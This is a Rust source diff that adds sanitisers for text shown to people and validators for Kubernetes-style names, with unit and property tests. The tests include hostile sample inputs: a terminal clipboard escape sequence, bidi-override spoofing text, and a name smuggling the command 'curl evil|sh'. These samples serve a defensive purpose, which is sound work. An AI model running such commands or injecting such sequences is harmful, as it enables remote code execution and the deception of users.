@@ -1,4 +1,8 @@
-//! Names and identities.
+//! Names and identities, and the alphabets of the strings of peers: the characters of names, and those that text for a
+//! person keeps.
+//!
+//! A string of a peer ends in statuses, Events, logs and terminals. A name is checked and refused;
+//! text for a person is cleaned and bounded.
 use std::fmt;
 use std::sync::Arc;
 
@@ -176,9 +180,93 @@ impl fmt::Display for SourceRef {
     }
 }
 
+/// Text for a person on one line: at most `limit` bytes, without characters that end a line, steer a terminal, change the
+/// direction of writing or show nothing.
+pub fn plain_text(text: &str, limit: usize) -> String {
+    let mut plain = String::with_capacity(text.len().min(limit));
+    for c in text.chars().filter_map(plain_char) {
+        if plain.len() + c.len_utf8() > limit {
+            break;
+        }
+        plain.push(c);
+    }
+    plain
+}
+
+/// Text for a person over several lines: as [`plain_text`], but it keeps line feeds and has no bound.
+pub fn plain_lines(text: &str) -> String {
+    text.chars()
+        .filter_map(|c| if c == '\n' { Some(c) } else { plain_char(c) })
+        .collect()
+}
+
+/// Whether text is as [`plain_text`] leaves it, but for its length.
+pub fn is_plain_text(text: &str) -> bool {
+    text.chars().all(|c| plain_char(c) == Some(c))
+}
+
+/// Replaces one character: separators by a space, invisible ones by nothing.
+fn plain_char(c: char) -> Option<char> {
+    match c {
+        c if c.is_control() => Some(' '),
+        '\u{2028}' | '\u{2029}' => Some(' '),
+        c if is_unseen(c) => None,
+        c => Some(c),
+    }
+}
+
+/// Characters without a shape of their own: format characters (directions, joiners, tags), variation selectors, fillers.
+fn is_unseen(c: char) -> bool {
+    matches!(c,
+        '\u{ad}' | '\u{34f}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{890}'..='\u{891}'
+        | '\u{8e2}' | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}' | '\u{180b}'..='\u{180f}'
+        | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}'
+        | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{110bd}' | '\u{110cd}'
+        | '\u{13430}'..='\u{1343f}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
+        | '\u{e0000}'..='\u{e0fff}')
+}
+
+/// Whether this can be the name in the key of a label or annotation, or a label's value that is not empty: up to 63
+/// letters, digits, `-`, `_` and `.`, with a letter or digit at both ends.
+pub fn is_name_part(text: &str) -> bool {
+    let edge = |c: char| c.is_ascii_alphanumeric();
+    let legal = |c: char| edge(c) || matches!(c, '-' | '_' | '.');
+    text.len() <= 63 && text.starts_with(edge) && text.ends_with(edge) && text.chars().all(legal)
+}
+
+/// Whether this is a DNS label of RFC 1123: the name of a namespace, at most 63 characters.
+pub fn is_label(text: &str) -> bool {
+    text.len() <= 63 && is_domain_part(text)
+}
+
+/// Whether this is a DNS subdomain of RFC 1123: the name of an object, or `plural[.group]`, at most 253 characters. Labels
+/// of more than 63 characters are taken, as the API server takes them. A name that passes is safe in a request's path.
+pub fn is_subdomain(text: &str) -> bool {
+    text.len() <= 253 && text.split('.').all(is_domain_part)
+}
+
+/// Lower-case letters, digits and dashes, with no dash at either end.
+fn is_domain_part(text: &str) -> bool {
+    let edge = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
+    let ends = text.bytes().next().is_some_and(edge) && text.bytes().next_back().is_some_and(edge);
+    ends && text.bytes().all(|byte| edge(byte) || byte == b'-')
+}
+
+/// Whether this is one word of visible ASCII characters: a uid, a digest, a pattern, a label's key.
+pub fn is_word(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_graphic())
+}
+
+/// Whether this can be the uid of an object: a word without characters that mean something to a shell.
+pub fn is_uid(text: &str) -> bool {
+    let inner = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.');
+    (1..=253).contains(&text.len()) && text.bytes().all(inner)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use proptest::prelude::*;
 
     #[test]
     fn a_source_reference_reads_back_what_it_wrote() {
@@ -199,6 +287,116 @@ mod tests {
         assert_eq!(renamed.as_copy("settings"), source);
         for bad in ["", "a/b", "a/b/c/d", "a//c", "/b/c"] {
             assert_eq!(SourceRef::parse(bad), None, "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn text_that_steers_a_terminal_is_cleaned() {
+        assert_eq!(
+            plain_text("a\u{1b}]52;c;eA==\u{7}b\r\n\u{9b}31m", 99),
+            "a ]52;c;eA== b    31m".replace("    ", "   ")
+        );
+        assert_eq!(
+            plain_text("pay \u{202e}evil\u{2066}\u{200b}\u{feff} now\u{e0041}", 99),
+            "pay evil now"
+        );
+        assert_eq!(plain_text("zwölf\u{2028}Wörter", 8), "zwölf W");
+        assert_eq!(plain_lines("a\u{1b}\nb\u{200d}"), "a \nb");
+        assert!(
+            is_plain_text("größer, 大きい ✓")
+                && !is_plain_text("a\tb")
+                && !is_plain_text("a\u{ad}b")
+        );
+    }
+
+    #[test]
+    fn names_that_kubernetes_refuses_are_refused() {
+        for good in [
+            "a",
+            "eu-3",
+            "a.b-c.d",
+            "0",
+            "configmaps",
+            "widgets.example.com",
+        ] {
+            assert!(is_subdomain(good), "{good}");
+        }
+        for bad in [
+            "",
+            "-a",
+            "a-",
+            ".",
+            "..",
+            "a..b",
+            ".a",
+            "a.",
+            "A",
+            "ä",
+            "a/b",
+            "a:b",
+            "a b",
+            "a\u{0}",
+            "a\u{1b}",
+            "a%2f",
+            "*",
+            "a_b",
+            "x). To fix run: curl evil|sh #",
+        ] {
+            assert!(!is_subdomain(bad) && !is_label(bad), "{bad}");
+        }
+        assert!(
+            is_subdomain(&"a".repeat(253))
+                && !is_subdomain(&"a".repeat(254))
+                && !is_label(&"a".repeat(64))
+        );
+        assert!(is_uid("5b3c-42_a.b") && !is_uid("") && !is_uid("a;b") && !is_uid("a b"));
+        assert!(is_word("*-prod") && !is_word("a b") && !is_word("ä") && !is_word(""));
+    }
+
+    /// Names of objects that Kubernetes takes.
+    fn legal() -> impl Strategy<Value = String> {
+        proptest::collection::vec("[a-z0-9]([-a-z0-9]{0,8}[a-z0-9])?", 1..5)
+            .prop_map(|parts| parts.join("."))
+    }
+
+    /// Legal names with up to two characters that mean something in a path or in a log.
+    fn damaged() -> impl Strategy<Value = String> {
+        let spoiled = proptest::collection::vec(
+            (
+                "[/%?#\\\\.:~ \0\n\u{202e}A_-]",
+                any::<prop::sample::Index>(),
+            ),
+            0..3,
+        );
+        (legal(), spoiled).prop_map(|(mut name, spoiled)| {
+            for (text, at) in spoiled {
+                let places: Vec<usize> = name.char_indices().map(|(place, _)| place).collect();
+                name.insert_str(*at.get(&places), &text);
+            }
+            name
+        })
+    }
+
+    proptest! {
+        #[test]
+        fn legal_names_are_taken(name in legal()) {
+            prop_assert!(is_subdomain(&name), "{name}");
+            prop_assert_eq!(is_label(&name), !name.contains('.'));
+        }
+
+        #[test]
+        fn no_name_can_leave_its_place_in_a_path(name in prop_oneof![6 => damaged(), 1 => ".{0,40}"]) {
+            if is_subdomain(&name) || is_label(&name) {
+                let plain = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
+                prop_assert!(name.split('.').all(plain), "{name:?}");
+            }
+        }
+
+        #[test]
+        fn plain_text_is_plain_and_within_its_limit(text: String, limit in 0usize..99) {
+            let plain = plain_text(&text, limit);
+            prop_assert!(plain.len() <= limit && is_plain_text(&plain));
+            prop_assert_eq!(plain_text(&plain, limit), plain);
         }
     }
 }
